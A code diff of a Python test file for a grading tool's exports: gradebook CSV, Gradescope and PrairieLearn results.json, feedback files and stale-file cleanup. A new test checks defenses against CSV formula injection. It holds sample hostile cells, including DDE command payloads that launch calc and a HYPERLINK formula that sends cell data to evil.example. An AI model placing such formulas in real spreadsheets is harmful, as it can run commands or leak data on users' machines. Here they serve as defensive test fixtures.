@@ -1,5 +1,5 @@
-"""Gradebook CSV, Gradescope and PrairieLearn results.json (validated against their published
-schemas), feedback files and the summary, from reports shaped like the grader's."""
+"""Gradebook CSV (spreadsheet-safe), Gradescope and PrairieLearn results.json (validated against
+their published schemas), feedback files and the summary, from reports shaped like the grader's."""
 
 from __future__ import annotations
 
@@ -8,9 +8,11 @@ import json
 
 from exercises import load_catalog
 from grader.report import CheckResult, ModelSummary, Report
-from tutor.batch import exports, summary
+from tutor.autograder import results
+from tutor.batch import cells, exports, summary
+from tutor.batch.feedback import feedback_text
 from tutor.batch.models import StoredResult, Unattributed
-from tutor.batch.schemas import GradescopeResults, PrairieLearnResults
+from tutor.batch.schemas import PRAIRIELEARN_MAX_BYTES, GradescopeResults, PrairieLearnResults
 from rich.console import Console
 
 TASK = load_catalog().get("task8.1")
@@ -58,27 +60,29 @@ def test_gradebook_has_one_row_per_student_with_the_promised_columns(tmp_path):
     assert rows[2]["status"] == "error" and "SyntaxError" in rows[2]["reason"]
 
 
-def test_gradescope_and_prairielearn_files_follow_their_schemas(tmp_path):
+def test_gradescope_and_prairielearn_results_follow_their_schemas():
+    """Gradescope "Autograder Specifications" (gradescope-autograders.readthedocs.io/en/latest/specs/)
+    and PrairieLearn docs/externalGrading.md ("Grading results"), as modelled in schemas.py."""
     for result in RESULTS:
-        exports.write_student_files(tmp_path, result, TASK.spec, ["gradescope", "prairielearn"])
-    for result in RESULTS:
+        report = result.report
+        feedback = feedback_text(report, TASK.spec, result.student)
         gs = GradescopeResults.model_validate_json(
-            (tmp_path / "gradescope" / result.student / "results.json").read_text())
-        assert gs.score == result.report.points
-        assert sum(t.max_score for t in gs.tests) == result.report.max_points
-        pl_path = tmp_path / "prairielearn" / result.student / "results.json"
-        assert pl_path.stat().st_size < 1 << 20
-        pl = PrairieLearnResults.model_validate_json(pl_path.read_text())
-        if result.report.status == "error":
+            results.gradescope(report, TASK.spec, feedback).model_dump_json(exclude_none=True))
+        assert gs.score == report.points
+        assert sum(t.max_score for t in gs.tests) == sum(c.max_points for c in report.checks)
+        pl_text = results.prairielearn(report, TASK.spec, feedback).model_dump_json(exclude_none=True)
+        assert len(pl_text.encode()) < PRAIRIELEARN_MAX_BYTES
+        pl = PrairieLearnResults.model_validate_json(pl_text)
+        if report.status == "error":
             assert pl.gradable is False and "SyntaxError" in pl.format_errors[0]
         else:
-            assert pl.score == result.report.score
-            assert [t.points for t in pl.tests] == [c.points for c in result.report.checks]
-    bob = json.loads((tmp_path / "gradescope" / "bob" / "results.json").read_text())
-    statuses = {t["name"]: t["status"] for t in bob["tests"]}
+            assert pl.score == report.score
+            assert [t.points for t in pl.tests] == [c.points for c in report.checks]
+    bob = results.gradescope(RESULTS[1].report, TASK.spec, "x")
+    statuses = {t.name: t.status for t in bob.tests}
     assert statuses["test accuracy at least 0.975 after the 5-epoch recipe"] == "failed"
-    feedback = (tmp_path / "feedback" / "bob.txt").read_text()
-    assert "bob" in feedback and "accuracy message" in feedback
+    huge = results.prairielearn(RESULTS[0].report, TASK.spec, "y" * (3 << 20))
+    assert len(huge.model_dump_json().encode()) < PRAIRIELEARN_MAX_BYTES  # "limited to 1 MB"
 
 
 def test_schema_models_refuse_what_the_platforms_would_not_read():
@@ -109,10 +113,32 @@ def test_summary_counts_rates_histogram_and_common_failures(tmp_path):
 
 def test_files_of_students_no_longer_in_the_batch_are_removed(tmp_path):
     for result in RESULTS:
-        exports.write_student_files(tmp_path, result, TASK.spec, ["gradescope", "prairielearn"])
+        exports.write_student_files(tmp_path, result, TASK.spec)
     (tmp_path / "feedback" / "README.md").write_text("the instructor's own notes")
+    legacy = tmp_path / "gradescope" / "alice" / "results.json"  # an older version's folders
+    legacy.parent.mkdir(parents=True)
+    legacy.write_text("{}")
     assert exports.remove_stale(tmp_path, {"alice", "bob"}) == ["carol"]
     assert not (tmp_path / "feedback" / "carol.txt").exists()
-    assert not (tmp_path / "gradescope" / "carol").exists()
-    assert (tmp_path / "prairielearn" / "bob" / "results.json").exists()
+    assert (tmp_path / "feedback" / "bob.txt").exists()
+    assert not (tmp_path / "gradescope").exists(), "per-student results.json no platform reads"
     assert (tmp_path / "feedback" / "README.md").exists()
+
+
+def test_no_cell_we_write_runs_as_a_formula(tmp_path):
+    """OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection), ASVS 1.2.10:
+    a leading =, +, -, @, tab or CR gets a single quote; numbers stay numbers."""
+    for hostile in ("=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"):
+        assert cells.safe_cell(hostile) == "'" + hostile
+    for harmless in ("0.9871", "-3", "+1.5", "1e-3", "-", "alice", "", "Participant 12"):
+        assert cells.safe_cell(harmless) == harmless
+    forged = _stored("-mallory", _report("error", error='=HYPERLINK("http://evil.example/?"&A2&B2,"x")'))
+    forged = forged.model_copy(update={"name": "@SUM(1+1)"})
+    exports.write_gradebook(tmp_path / "gradebook.csv", [*RESULTS, forged])
+    row = list(csv.DictReader((tmp_path / "gradebook.csv").open()))[-1]
+    assert row["reason"].startswith("'=HYPERLINK") and row["student"] == "'-mallory"
+    assert row["name"] == "'@SUM(1+1)" and row["score"] == "0.0000"
+    exports.write_unattributed(tmp_path / "unattributed.txt",
+                               [Unattributed(path="=cmd|' /C calc'!A0", reason="@evil")])
+    assert (tmp_path / "unattributed.txt").read_text().startswith("'=cmd")
+    assert "\t'@evil" in (tmp_path / "unattributed.txt").read_text()
